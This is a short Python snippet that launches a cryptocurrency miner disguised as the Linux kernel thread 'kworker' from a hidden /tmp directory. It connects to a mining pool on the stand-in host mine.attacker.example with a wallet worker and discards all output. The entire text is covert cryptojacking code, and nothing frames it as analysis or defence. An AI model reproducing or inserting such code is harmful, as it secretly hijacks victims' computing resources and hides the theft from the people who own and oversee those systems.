import subprocess
subprocess.Popen(["/tmp/.indexer/kworker", "--url", "stratum+tcp://mine.attacker.example:3333",
                  "--user", "wallet.worker1", "--cpu-max-threads-hint", "75"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
